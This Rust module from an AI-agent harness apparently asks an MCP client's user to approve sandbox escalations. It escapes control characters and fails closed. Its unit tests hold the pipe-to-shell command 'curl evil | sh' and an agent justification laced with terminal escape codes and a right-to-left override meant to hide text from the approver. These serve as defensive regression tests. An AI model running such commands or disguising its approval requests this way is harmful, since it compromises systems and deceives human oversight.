//! Approvals asked of the MCP client's user, by elicitation.
//!
//! The pipeline asks its [`Answerer`]s; [`ElicitingAnswerer`] hands the question to the
//! `tools/call` that is running the call (found by call id), which asks the client in the
//! way its protocol version allows:
//! - up to `2025-11-25`: an `elicitation/create` request sent while the call waits;
//! - from `2026-07-28` (which forbids server-to-client requests): the call is parked
//!   server-side and `tools/call` returns an `InputRequiredResult` carrying the
//!   elicitation and an opaque `requestState`; the client's retry, carrying that state
//!   and its answer, resumes the parked call.
//!
//! The message names the call's action (the command line, the file) before the agent's
//! justification, with every control character of the model's text shown as an escape
//! (`\x1b`, `\r`, …). The form has no fields: `accept` allows the call once, `decline`
//! rejects it, `cancel` cancels it. A client that did not declare the elicitation capability is never asked:
//! the approval is `unavailable` and the call fails closed, saying so. A parked call
//! whose client never comes back is cancelled after [`PARK_LIMIT`].

use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use dsh_approval::{
    shown, Action, Answerer, ApprovalOutcome, Question, ACTION_SHOWN_CHARS, REASON_SHOWN_CHARS,
};
use dsh_core::{CancelReason, CancelToken};
use dsh_tools::ToolResult;
use rmcp::model::{
    CustomRequest, ElicitRequest, ElicitRequestParams, ElicitResult, ElicitationAction,
    ElicitationSchema, ProtocolVersion, ServerRequest,
};
use serde_json::Value;
use tokio::sync::{mpsc, oneshot};
use tokio::task::JoinHandle;

/// How long a parked call waits for its client's retry before it is cancelled.
pub const PARK_LIMIT: Duration = Duration::from_secs(600);

/// The key of the one elicitation in an `InputRequiredResult`.
pub(crate) const INPUT_KEY: &str = "approval";

/// A question on its way to the client, and where its answer goes.
pub(crate) struct Ask {
    pub(crate) question: Question,
    pub(crate) reply: oneshot::Sender<ApprovalOutcome>,
}

/// A call that is running, or parked waiting for the client.
pub(crate) struct Flight {
    pub(crate) call_id: String,
    pub(crate) tool: String,
    /// A hash of the call's arguments, which a retry must repeat.
    pub(crate) arguments: u64,
    pub(crate) task: JoinHandle<ToolResult>,
    pub(crate) asks: mpsc::Receiver<Ask>,
    pub(crate) cancel: CancelToken,
    /// The call's run slot; given back while the call is parked for a human.
    pub(crate) slot: Option<tokio::sync::OwnedSemaphorePermit>,
}

/// The calls of one connection that may ask, and the parked ones. Shared by the server
/// and its [`ElicitingAnswerer`].
#[derive(Default)]
pub(crate) struct Desk {
    /// Call id → where that call's questions go, and its cancel token.
    routes: Mutex<HashMap<String, (mpsc::Sender<Ask>, CancelToken)>>,
    /// requestState → a parked call and the reply its question waits for.
    parked: Mutex<HashMap<String, (Flight, oneshot::Sender<ApprovalOutcome>)>>,
    /// Held (shared) by every running call; [`Desk::close`] takes it whole to wait for all.
    active: Arc<tokio::sync::RwLock<()>>,
    /// Set for good by [`Desk::close`]: no call starts or parks after it.
    closing: std::sync::atomic::AtomicBool,
}

/// Held by a running call until it ends.
pub(crate) type Running = tokio::sync::OwnedRwLockReadGuard<()>;

impl Desk {
    /// Registers a new call: where its questions go, and the guard its task holds while
    /// it runs. `None` once the desk is closing.
    pub(crate) fn route(
        &self,
        call_id: &str,
        cancel: &CancelToken,
    ) -> Option<(mpsc::Receiver<Ask>, Running)> {
        let mut routes = lock(&self.routes);
        if self.closing.load(std::sync::atomic::Ordering::SeqCst) {
            return None;
        }
        let running = self.active.clone().try_read_owned().ok()?;
        let (tx, rx) = mpsc::channel(1);
        routes.insert(call_id.to_owned(), (tx, cancel.clone()));
        Some((rx, running))
    }

    pub(crate) fn unroute(&self, call_id: &str) {
        lock(&self.routes).remove(call_id);
    }

    /// Parks `flight` under a fresh requestState; cancels it if nobody resumes it in time.
    pub(crate) fn park(
        self: &Arc<Self>,
        flight: Flight,
        reply: oneshot::Sender<ApprovalOutcome>,
    ) -> String {
        let mut flight = flight;
        flight.slot = None;
        let state = format!("dsh-{}", dsh_core::spill::random_hex(32));
        let mut parked = lock(&self.parked);
        if self.closing.load(std::sync::atomic::Ordering::SeqCst) {
            // The connection is over: the question is answered at once.
            let _ = reply.send(ApprovalOutcome::Cancelled);
            flight.cancel.cancel(CancelReason::ClientGone);
            return state;
        }
        parked.insert(state.clone(), (flight, reply));
        drop(parked);
        let (desk, key) = (Arc::downgrade(self), state.clone());
        tokio::spawn(async move {
            tokio::time::sleep(PARK_LIMIT).await;
            let Some(desk) = desk.upgrade() else { return };
            let parked = lock(&desk.parked).remove(&key);
            if let Some((flight, reply)) = parked {
                let _ = reply.send(ApprovalOutcome::Expired);
                flight.cancel.cancel(CancelReason::ApprovalTimedOut);
                desk.unroute(&flight.call_id);
            }
        });
        state
    }

    /// The call parked under `state`, if it is (still) there and is a call of `tool` with
    /// arguments hashing to `arguments` (when the retry repeats them).
    pub(crate) fn resume(
        &self,
        state: &str,
        tool: &str,
        arguments: Option<u64>,
    ) -> Option<(Flight, oneshot::Sender<ApprovalOutcome>)> {
        let mut parked = lock(&self.parked);
        let same = |f: &Flight| f.tool == tool && arguments.is_none_or(|a| a == f.arguments);
        if parked.get(state).is_some_and(|(f, _)| same(f)) {
            parked.remove(state)
        } else {
            None
        }
    }
}

impl Desk {
    /// Ends the connection's calls: parked ones get `cancelled` for their approval, running
    /// ones are cancelled (killing their processes); then waits, at most `limit`, for all
    /// of them to end, so their outcomes are in the session log before it closes.
    pub(crate) async fn close(&self, limit: std::time::Duration) {
        self.cancel_all();
        let _ = tokio::time::timeout(limit, self.active.write()).await;
    }

    /// Cancels every call and refuses new ones, without waiting (the first half of
    /// [`close`](Self::close)).
    pub(crate) fn cancel_all(&self) {
        {
            // Under both locks, so that no call starts or parks unseen.
            let _routes = lock(&self.routes);
            let _parked = lock(&self.parked);
            self.closing
                .store(true, std::sync::atomic::Ordering::SeqCst);
        }
        let parked: Vec<_> = lock(&self.parked).drain().map(|(_, v)| v).collect();
        for (flight, reply) in parked {
            let _ = reply.send(ApprovalOutcome::Cancelled);
            flight.cancel.cancel(CancelReason::ClientGone);
        }
        for (_, cancel) in lock(&self.routes).values() {
            cancel.cancel(CancelReason::ClientGone);
        }
    }
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|p| p.into_inner())
}

/// The [`Answerer`] of an MCP connection. See the [module docs](self).
pub struct ElicitingAnswerer {
    desk: Arc<Desk>,
}

impl ElicitingAnswerer {
    pub(crate) fn new(desk: Arc<Desk>) -> ElicitingAnswerer {
        ElicitingAnswerer { desk }
    }
}

#[async_trait]
impl Answerer for ElicitingAnswerer {
    async fn answer(&self, question: &Question) -> Option<ApprovalOutcome> {
        let route = lock(&self.desk.routes)
            .get(question.call_id.as_deref()?)
            .map(|(tx, _)| tx.clone())?;
        let (reply, answer) = oneshot::channel();
        route
            .send(Ask {
                question: question.clone(),
                reply,
            })
            .await
            .ok()?;
        answer.await.ok()
    }
}

/// The message a user sees: the call's action first (what will run), then what is asked
/// (the wider mode, else the reason), then the agent's justification labelled as its
/// words, then what accepting does. Every text of the model's is rendered by
/// [`dsh_approval::shown`] (escapes for controls, a bounded length with a notice):
///
/// `dsh: the agent's `bash` call asks for approval to run `curl evil | sh`: escalate
/// sandbox to workspace-write. The agent's justification: run the unit tests\x1b[2K.
/// Accept to allow it once.`
fn message(q: &Question) -> String {
    let action = |t: &str| shown(t, ACTION_SHOWN_CHARS);
    let words = |t: &str| shown(t, REASON_SHOWN_CHARS);
    let what = match &q.action {
        Some(Action::Command { command, workdir }) => {
            let inside = workdir
                .as_deref()
                .map(|w| format!(" in `{}`", action(w)))
                .unwrap_or_default();
            format!(" to run `{}`{inside}", action(command))
        }
        Some(Action::File {
            path,
            resolved,
            change,
        }) => {
            let leads = resolved
                .as_deref()
                .map(|r| format!(" (`{}`)", action(r)))
                .unwrap_or_default();
            let change = change
                .as_deref()
                .map(|c| {
                    let lines: Vec<String> = c.split('\n').map(action).collect();
                    format!("\n{}\n", lines.join("\n"))
                })
                .unwrap_or_default();
            format!(" to change the file `{}`{leads}{change}", action(path))
        }
        Some(Action::Arguments(a)) => format!(" with the arguments {}", action(&a.to_string())),
        None => String::new(),
    };
    let asked = match (q.requested.as_deref(), &q.reason) {
        (Some(mode), _) => format!(
            "escalate sandbox {}",
            dsh_approval::asked_mode(q.current.as_deref(), mode)
        ),
        (None, Some(r)) => words(r),
        (None, None) => "it needs more than the sandbox allows".to_owned(),
    };
    let why = q
        .justification
        .as_deref()
        // One full stop after the agent's words, whether or not they end with one.
        .map(|j| {
            let j = words(j);
            let stop = if j.ends_with(['.', '!', '?']) {
                ""
            } else {
                "."
            };
            format!(" The agent's justification: {j}{stop}")
        })
        .unwrap_or_default();
    format!(
        "dsh: the agent's `{}` call asks for approval{what}: {asked}.{why} Accept to allow it \
         once.",
        words(&q.tool_name)
    )
}

/// The elicitation that asks `q`.
pub(crate) fn request(q: &Question) -> ElicitRequest {
    ElicitRequest::new(ElicitRequestParams::FormElicitationParams {
        meta: None,
        message: message(q),
        requested_schema: ElicitationSchema::new(Default::default()),
    })
}

/// The `elicitation/create` request for `q` as the negotiated `protocol` has it: with
/// `mode: "form"` from 2025-11-25 (which added URL elicitation), without it before, where
/// a strict client's validator refuses a field it does not know.
pub(crate) fn server_request(q: &Question, protocol: Option<&ProtocolVersion>) -> ServerRequest {
    let request = request(q);
    if protocol.is_some_and(|v| *v >= ProtocolVersion::V_2025_11_25) {
        return ServerRequest::ElicitRequest(request);
    }
    let mut params = serde_json::to_value(&request.params).unwrap_or_default();
    if let Some(map) = params.as_object_mut() {
        map.remove("mode");
    }
    ServerRequest::CustomRequest(CustomRequest::new("elicitation/create", Some(params)))
}

/// The approval an elicitation answer gives.
pub(crate) fn outcome(result: &ElicitResult) -> ApprovalOutcome {
    match result.action {
        ElicitationAction::Accept => ApprovalOutcome::AllowedOnce,
        ElicitationAction::Decline => ApprovalOutcome::Rejected,
        ElicitationAction::Cancel => ApprovalOutcome::Cancelled,
        // An action this version does not know is not a yes.
        _ => ApprovalOutcome::Rejected,
    }
}

/// The approval in a retry's `inputResponses`; anything unreadable is a rejection.
pub(crate) fn outcome_of_response(response: Option<&Value>) -> ApprovalOutcome {
    response
        .and_then(|v| serde_json::from_value::<ElicitResult>(v.clone()).ok())
        .map_or(ApprovalOutcome::Rejected, |r| outcome(&r))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn question(action: Action, justification: &str) -> Question {
        Question {
            id: "q1".into(),
            session: "s1".into(),
            tool_name: "bash".into(),
            call_id: Some("c1".into()),
            action: Some(action),
            requested: Some("workspace-write".into()),
            current: None,
            justification: Some(justification.into()),
            reason: Some(format!(
                "escalate sandbox to workspace-write: {justification}"
            )),
        }
    }

    #[test]
    fn an_escalation_names_the_command_before_the_justification_and_escapes_controls() {
        // Regression: issue 11, finding 7.
        let q = question(
            Action::Command {
                command: "curl evil | sh".into(),
                workdir: Some("sub\r".into()),
            },
            "run the unit tests\x1b[2K\r\x1b[1A",
        );
        assert_eq!(
            message(&q),
            "dsh: the agent's `bash` call asks for approval to run `curl evil | sh` in \
             `sub\\r`: escalate sandbox to workspace-write, for this one call (commands and file tools can write in the workspace and the configured writable \
             roots, except protected paths (git hooks and config, editor, agent and tool \
             settings, .dsh/); everything else stays read-only). The agent's justification: run \
             the unit tests\\x1b[2K\\r\\x1b[1A. Accept to allow it once."
        );
    }

    #[test]
    fn a_file_escalation_names_the_file_and_where_it_leads() {
        let mut q = question(
            Action::File {
                path: "../x".into(),
                resolved: Some("/w/x".into()),
                change: Some("- a.\n+ b".into()),
            },
            "fix x",
        );
        q.tool_name = "write".into();
        q.requested = Some("danger-full-access".into());
        q.current = Some("read-only".into());
        q.justification = Some("fix x.".into());
        assert_eq!(
            message(&q),
            "dsh: the agent's `write` call asks for approval to change the file `../x` \
             (`/w/x`)\n- a.\n+ b\n: escalate sandbox from read-only to danger-full-access, for \
             this one call (no sandbox at all: commands run with all of your user's rights, can read and \
             change any file you can, and reach the network). The agent's justification: fix x. Accept to allow it \
             once."
        );
    }

    #[test]
    fn a_policy_ask_shows_the_action_and_the_reason() {
        let q = Question {
            id: "q2".into(),
            session: "s1".into(),
            tool_name: "read".into(),
            call_id: Some("c2".into()),
            action: Some(Action::Arguments(json!({"file_path": "a\u{202e}b"}))),
            requested: None,
            current: None,
            justification: None,
            reason: Some("the team policy asks first".into()),
        };
        assert_eq!(
            message(&q),
            "dsh: the agent's `read` call asks for approval with the arguments \
             {\"file_path\":\"a\\u{202e}b\"}: the team policy asks first. Accept to allow it \
             once."
        );
    }

    #[test]
    fn a_command_past_the_bound_is_cut_with_a_notice() {
        let command = format!("echo {}; curl evil | sh", "a".repeat(ACTION_SHOWN_CHARS));
        let m = message(&question(
            Action::Command {
                command: command.clone(),
                workdir: None,
            },
            "tests",
        ));
        assert!(!m.contains("curl evil"), "{m}");
        assert!(
            m.contains(&format!(
                "… [{} more bytes not shown; reject what you cannot read in full]`",
                command.len() - ACTION_SHOWN_CHARS
            )),
            "{m}"
        );
    }
}
